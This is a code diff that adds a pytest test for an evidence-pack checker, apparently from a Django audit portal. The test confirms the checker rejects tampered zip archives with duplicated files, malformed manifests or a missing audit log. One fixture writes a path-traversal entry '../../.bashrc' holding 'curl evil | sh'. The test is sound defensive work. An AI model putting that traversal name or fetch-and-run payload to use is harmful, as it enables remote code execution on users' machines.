@@ -235,6 +235,50 @@ def test_it_checks_an_evidence_pack_and_its_signed_manifest(client, personas, re
     assert "report.md was changed" in fails(script, changed, key)
 
 
+def _manifest_without_audit_log(src, dst):
+    contents = json.loads(src.read("contents.json"))
+    contents["files"] = [e for e in contents["files"] if e["name"] != "audit.jsonl"]
+    dst.writestr("contents.json", json.dumps(contents))
+    return {"audit.jsonl", "contents.json"}
+
+
+@pytest.mark.parametrize(
+    "change, words",
+    [
+        # A zip tool may show the first copy while the checker reads the last.
+        (lambda src, dst: dst.writestr("report.md", "# All green\n") and set(),
+         "the pack holds report.md twice"),
+        (lambda src, dst: dst.writestr("../../.bashrc", "curl evil | sh\n") and set(),
+         "the pack holds files its manifest does not list: ../../.bashrc"),
+        (lambda src, dst: dst.writestr("contents.json", "[]") or {"contents.json"},
+         "the pack's contents.json does not have the shape the portal writes"),
+        (lambda src, dst: dst.writestr("contents.json", '{"files": [{}]}') or {"contents.json"},
+         "the pack's contents.json does not have the shape the portal writes"),
+        (lambda src, dst: dst.writestr("contents.json", "not json") or {"contents.json"},
+         "the pack's contents.json does not have the shape the portal writes"),
+        (_manifest_without_audit_log, "the pack has no audit.jsonl"),
+    ],
+)  # fmt: skip
+def test_it_refuses_a_pack_with_files_added_doubled_or_a_manifest_of_another_shape(
+    client, personas, release, tmp_path, change, words
+):
+    script = outsider_copy(tmp_path)
+    client.force_login(personas["auditor"])
+    pack = tmp_path / "pack.zip"
+    pack.write_bytes(b"".join(download(client, personas["auditor"], release).streaming_content))
+    changed = tmp_path / "changed.zip"
+    with zipfile.ZipFile(pack) as src, zipfile.ZipFile(changed, "w") as dst:
+        key = tmp_path / "key.pem"
+        key.write_bytes(src.read("public-key.pem"))
+        replaced = change(src, dst) or set()
+        for info in src.infolist():
+            if info.filename not in replaced:
+                dst.writestr(info, src.read(info.filename))
+    stderr = fails(script, changed, key)
+    assert stderr.startswith("FAILED: ") and "Traceback" not in stderr, stderr
+    assert words in stderr
+
+
 def test_its_job_records_and_logs_carry_no_server_path(client, personas, release):
     from django.utils import timezone
 
